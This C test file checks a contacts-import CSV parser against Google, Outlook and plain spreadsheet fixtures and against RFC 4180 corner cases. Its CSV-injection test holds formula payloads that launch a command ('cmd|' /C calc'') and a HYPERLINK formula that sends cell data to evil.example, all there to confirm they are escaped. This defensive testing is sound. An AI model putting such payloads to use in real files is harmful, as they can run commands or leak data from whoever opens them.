/*
 * The CSV parser on the fixtures (Google's old and 2023 headers, Outlook's,
 * plain spreadsheets) and on the corners of RFC 4180. Part of test_import.
 */
#include <errno.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include "csv.h"
#include "import_util.h"
#include "tap.h"

void test_csv(void);

static void test_google_old(void) {
	struct tcards cs;
	is_int(t_parse_fixture(csv_parse, "google-old.csv", &cs), 0, "google-old.csv: parses");
	is_int(cs.n, 3, "google-old: three rows");
	struct tcard *c = &cs.cards[0];
	is_str(c->name, "Ivan Pozdniakov", "google-old: Name");
	is_int(c->line, 2, "google-old: the row's line");
	is_str(c->company, "Pozdniakov & Sons", "google-old: Organization 1 - Name");
	is_str(t_field(c, "title"), "Owner", "google-old: Organization 1 - Title");
	is_str(t_label(c, "+44 7700 900123"), "mobile", "google-old: Phone 1 - Type Mobile");
	is_str(t_label(c, "+44 7700 900124"), "mobile", "google-old: a second number after ' ::: '");
	is_str(t_label(c, "+44 20 7946 0019"), "Shop", "google-old: a custom type as written");
	is_str(c->n_emails ? c->emails[0] : NULL, "ivan@pozdniakov.example",
	       "google-old: E-mail 1 - Value");
	is_str(c->birthday, "1971-03-14", "google-old: Birthday");
	is_str(t_tags(c), "Shoe shop|starred", "google-old: Group Membership without myContacts");
	is_str(c->n_notes ? c->notes[0].text : NULL,
	       "Asked for \"black\" shoe cream, 2 tins\nCall when it arrives",
	       "google-old: Notes with quotes, a comma and a newline");
	is_str(t_field(c, "website"), "http://pozdniakov.example", "google-old: Website 1 - Value");
	ok(t_field(c, "Yomi Name") == NULL && t_field(c, "Organization 1 - Type") == NULL,
	   "google-old: empty and phonetic columns make no fields");
	c = &cs.cards[1];
	is_str(c->name, "Priya Sharma", "google-old: Given and Family Name when Name is empty");
	is_int(c->line, 4, "google-old: the line after a cell with a newline");
	is_str(c->birthday, "--02-29", "google-old: ' --02-29' (no year)");
	is_str(t_label(c, "+91 11 2345 6789"), "work fax", "google-old: Work Fax");
	ok(cs.cards[2].name == NULL && cs.cards[2].n_phones == 0 && cs.cards[2].line == 5,
	   "google-old: a row with neither name nor number comes through for the importer to skip");
	t_free(&cs);
}

static void test_google_new(void) {
	struct tcards cs;
	is_int(t_parse_fixture(csv_parse, "google-new.csv", &cs), 0, "google-new.csv: parses");
	is_int(cs.n, 2, "google-new: two rows");
	struct tcard *c = &cs.cards[0];
	is_str(c->name, "Grace Brewster Hopper", "google-new: First, Middle and Last Name");
	is_str(t_field(c, "nickname"), "Amazing Grace", "google-new: Nickname");
	is_str(c->company, "US Navy", "google-new: Organization Name");
	is_str(t_field(c, "title"), "Rear Admiral", "google-new: Organization Title");
	is_str(t_field(c, "department"), "Computing", "google-new: Organization Department");
	is_str(t_tags(c), "Navy|VIP", "google-new: Labels");
	ok(c->n_emails == 2 && strcmp(c->emails[1], "grace@home.example") == 0,
	   "google-new: two e-mail addresses");
	is_str(t_label(c, "+1 202 555 0199"), "mobile", "google-new: Phone 1 - Label");
	is_str(t_label(c, "+1 202 555 0100"), "Shop", "google-new: a custom label");
	is_str(t_field(c, "home address"), "1 Main St\nArlington, VA 22201\nUSA",
	       "google-new: Address 1 - Formatted, labelled Home");
	is_str(t_field(c, "Account"), "A-1906", "google-new: Custom Field 1");
	ok(t_field(c, "Photo") == NULL && t_field(c, "Address 1 - Street") == NULL,
	   "google-new: no photo URL, no address parts as fields");
	is_str(c->n_notes ? c->notes[0].text : NULL, "Likes, commas; and semicolons",
	       "google-new: Notes");
	is_str(cs.cards[1].birthday, "--12-10", "google-new: Birthday without a year");
	is_str(t_label(&cs.cards[1], "+44 20 7946 0300"), "work", "google-new: Work");
	t_free(&cs);
}

static void test_outlook(void) {
	struct tcards cs;
	is_int(t_parse_fixture(csv_parse, "outlook.csv", &cs), 0, "outlook.csv: parses");
	is_int(cs.n, 2, "outlook: two rows");
	struct tcard *c = &cs.cards[0];
	is_str(c->name, "Mr. Jürgen Müller",
	       "outlook: Title is the name's prefix; Windows-1252 read");
	is_str(c->company, "Bäckerei Müller", "outlook: Company");
	is_str(t_field(c, "title"), "Inhaber", "outlook: Job Title");
	is_str(t_label(c, "+49 221 555 0100"), "work", "outlook: Business Phone");
	is_str(t_label(c, "+49 171 555 0123"), "mobile", "outlook: Mobile Phone");
	is_str(t_label(c, "+49 221 555 0199"), "home", "outlook: Home Phone");
	is_str(t_label(c, "+49 221 555 0101"), "work fax", "outlook: Business Fax");
	is_str(c->birthday, "1970-07-12", "outlook: Birthday 7/12/1970, month first");
	is_str(t_tags(c), "Lieferant|VIP", "outlook: Categories split on ';'");
	is_str(t_field(c, "work address"), "Hauptstraße 1, Köln, 50667, Deutschland",
	       "outlook: Business Street, City, Postal Code, Country/Region");
	is_str(c->n_notes ? c->notes[0].text : NULL, "Brötchen für Montag\nGrüße – bis bald",
	       "outlook: Notes with CRLF inside");
	is_str(t_field(c, "User 1"), "Kundennummer 4711", "outlook: an unknown column is a field");
	ok(t_field(c, "Priority") == NULL && t_field(c, "Gender") == NULL &&
		   t_field(c, "Anniversary") == NULL && t_field(c, "E-mail Display Name") == NULL &&
		   t_field(c, "Initials") == NULL,
	   "outlook: placeholders (Normal, Unspecified, 0/0/00) and e-mail types are not fields");
	is_int(c->n_emails, 1, "outlook: E-mail Address");
	is_str(cs.cards[1].birthday, "1980-12-25", "outlook: Birthday 25.12.1980, day first");
	t_free(&cs);
}

static void test_plain(void) {
	struct tcards cs;
	is_int(t_parse_fixture(csv_parse, "generic-semicolon.csv", &cs), 0,
	       "generic-semicolon.csv: parses");
	is_int(cs.n, 3, "semicolon: three rows");
	struct tcard *c = &cs.cards[0];
	is_str(c->name, "Ivan Pozdniakov", "semicolon: the BOM is not part of 'name'");
	is_str(c->company, "Pozdniakov \"Shoes\" & Sons", "semicolon: doubled quotes");
	is_str(t_label(c, "+44 20 7946 0018"), "phone", "semicolon: 'phone' column");
	is_str(c->birthday, "1970-07-12", "semicolon: 12.07.1970");
	is_str(c->n_notes ? c->notes[0].text : NULL, "Two lines:\nsecond; with a semicolon",
	       "semicolon: quoted newline and delimiter");
	is_str(t_tags(c), "VIP|Shoes", "semicolon: tags split on commas");
	is_str(t_field(c, "account manager"), "Olga", "semicolon: an extra column is a custom field");
	is_int(cs.cards[1].line, 4, "semicolon: the next row's line");
	ok(cs.cards[2].name == NULL && cs.cards[2].n_notes == 1, "semicolon: a row with only a note");
	t_free(&cs);

	is_int(t_parse_fixture(csv_parse, "generic-tab.tsv", &cs), 0, "generic-tab.tsv: parses");
	ok(cs.n == 1 && strcmp(cs.cards[0].name, "Olga Ivanova") == 0, "tab: Full Name");
	is_str(cs.n ? t_label(&cs.cards[0], "+7 495 000-00-02") : NULL, "work", "tab: Work Phone");
	is_str(cs.n ? t_label(&cs.cards[0], "+7 916 000-00-01") : NULL, "mobile", "tab: Mobile");
	t_free(&cs);

	is_int(t_parse_fixture(csv_parse, "bad-quote.csv", &cs), -EBADMSG, "bad-quote.csv: an error");
	is_int(cs.err.line, 3, "bad-quote: where the quote opens");
	ok(strstr(cs.err.message, "never ends") != NULL, "bad-quote: says so");
	t_free(&cs);
}

static void test_syntax(void) {
	struct tcards cs;
	t_parse(csv_parse, "sep=;\nName;Phone\nA, B;555 0100\n", -1, &cs);
	ok(cs.n == 1 && strcmp(cs.cards[0].name, "A, B") == 0, "Excel's sep=; line");
	is_int(cs.n ? cs.cards[0].line : 0, 3, "line numbers count the sep= line");
	t_free(&cs);

	t_parse(csv_parse, "\"Name\",\"Mobile; cell\",Notes\n\"x\",\"1\",\"a\"\"b\"\n", -1, &cs);
	ok(cs.n == 1 && strcmp(cs.cards[0].notes[0].text, "a\"b") == 0,
	   "',' wins over a ';' inside a quoted header cell");
	t_free(&cs);

	t_parse(csv_parse, "name,phone\nRen\xe9,555 0100\n", -1, &cs);
	is_str(cs.n ? cs.cards[0].name : NULL, "René", "invalid UTF-8 read as Windows-1252");
	t_free(&cs);

	t_parse(csv_parse, "name,phone\r\n\r\n  \"Quoted\" ,555 0101\r\nNo Phone\r\n", -1, &cs);
	ok(cs.n == 2 && strcmp(cs.cards[0].name, "Quoted") == 0,
	   "blank rows skipped; blanks around quotes");
	ok(cs.n == 2 && cs.cards[1].n_phones == 0, "a short row is fine");
	t_free(&cs);

	t_parse(csv_parse, "name,phone\nA,1,surplus\n", -1, &cs);
	ok(cs.n == 1 && t_warned(&cs.cards[0], "the header has 2"),
	   "cells beyond the header: a warning");
	t_free(&cs);

	is_int(t_parse(csv_parse, "Alice,555 0100\nBob,555 0101\n", -1, &cs), -EBADMSG,
	       "a file without a header is refused");
	ok(strstr(cs.err.message, "header") != NULL && cs.err.line == 1, "saying so, on line 1");
	t_free(&cs);
	is_int(t_parse(csv_parse, "", 0, &cs), -EBADMSG, "an empty file has no header");
	t_free(&cs);
}

/* CSV injection: cells a spreadsheet would evaluate go out as text, and
 * come back as they were. */
static void test_formulas(void) {
	static const char *const formulas[] =
		{"=1+2", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)", "\tx",
		 "\rx",	 "  =HYPERLINK(\"x\")"};
	for (size_t i = 0; i < sizeof(formulas) / sizeof(formulas[0]); i++) {
		ok(csv_cell_is_formula(formulas[i]), "a formula: %s",
		   formulas[i] + (i >= 4 && i < 6));
	}
	static const char *const numbers[] =
		{"+380 44 123 45 67", "+44 (0)20 7946-0018", "-12.50", "Ivan", "'Til Dawn", ""};
	for (size_t i = 0; i < sizeof(numbers) / sizeof(numbers[0]); i++) {
		ok(!csv_cell_is_formula(numbers[i]), "not a formula: '%s'", numbers[i]);
	}
	char *buf = NULL;
	size_t len = 0;
	FILE *f = open_memstream(&buf, &len);
	static const char *const names[] = {"=1+2", "'Til Dawn", "'=x", "+380 44 123 45 67", "@a, b"};
	fputs("name,phone\r\n", f);
	for (size_t i = 0; i < 5; i++) {
		csv_write_cell(f, names[i], true);
		csv_write_cell(f, "+44 20 7946 0018", false);
		fputs("\r\n", f);
	}
	fclose(f);
	ok(strstr(buf, "\r\n'=1+2,") != NULL && strstr(buf, "\r\n''Til Dawn,") != NULL &&
		   strstr(buf, "\r\n+380 44 123 45 67,") != NULL && strstr(buf, "\"'@a, b\"") != NULL,
	   "written with an apostrophe (inside the quotes), numbers as they are");
	ok(strstr(buf, ",'+44") == NULL, "a phone number stays usable");
	struct tcards cs;
	t_parse(csv_parse, buf, (long)len, &cs);
	int same = 0;
	for (int i = 0; i < 5 && i < cs.n; i++) {
		same += cs.cards[i].name != NULL && strcmp(cs.cards[i].name, names[i]) == 0;
	}
	is_int(same, 5, "read back exactly, ' and = included");
	t_free(&cs);
	free(buf);

	/* The Labels cell (tags joined) is a cell like any other. */
	const char *tags[] = {"=HYPERLINK(\"http://evil.example/?\"&A2,\"click\")", "b"};
	struct contact_record r = {.name = "Eve", .tags = tags, .n_tags = 2};
	struct csv_shape shape = {0};
	csv_shape_fit(&shape, &r);
	buf = NULL;
	f = open_memstream(&buf, &len);
	csv_write_header(f, &shape);
	is_int(csv_write(f, &shape, &r), 0, "csv_write: a formula as a tag");
	fclose(f);
	ok(strstr(buf, ",\"'=HYPERLINK(") != NULL, "a formula tag goes out with an apostrophe");
	t_parse(csv_parse, buf, (long)len, &cs);
	is_str(cs.n == 1 ? t_tags(&cs.cards[0]) : NULL,
	       "=HYPERLINK(\"http://evil.example/?\"&A2,\"click\")|b",
	       "... and comes back as it was");
	t_free(&cs);
	free(buf);
}

void test_csv(void) {
	test_formulas();
	test_google_old();
	test_google_new();
	test_outlook();
	test_plain();
	test_syntax();
}
